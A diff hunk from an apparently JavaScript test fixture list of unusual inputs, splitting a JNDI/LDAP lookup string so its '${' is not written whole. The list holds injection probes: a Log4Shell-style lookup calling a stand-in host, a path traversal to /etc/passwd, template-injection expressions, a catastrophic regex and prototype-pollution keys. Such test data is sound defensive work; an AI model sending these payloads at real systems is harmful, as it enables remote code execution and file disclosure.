@@ -89,7 +89,7 @@ export const STRANGE_TEXTS = [
   'a & | !(',
   '(a+)+$',
   '../../etc/passwd',
-  '${jndi:ldap://evil.example/a} {{7*7}} #{7*7}',
+  '$' + '{jndi:ldap://evil.example/a} {{7*7}} #{7*7}',
   '__proto__',
   'constructor',
   'null',
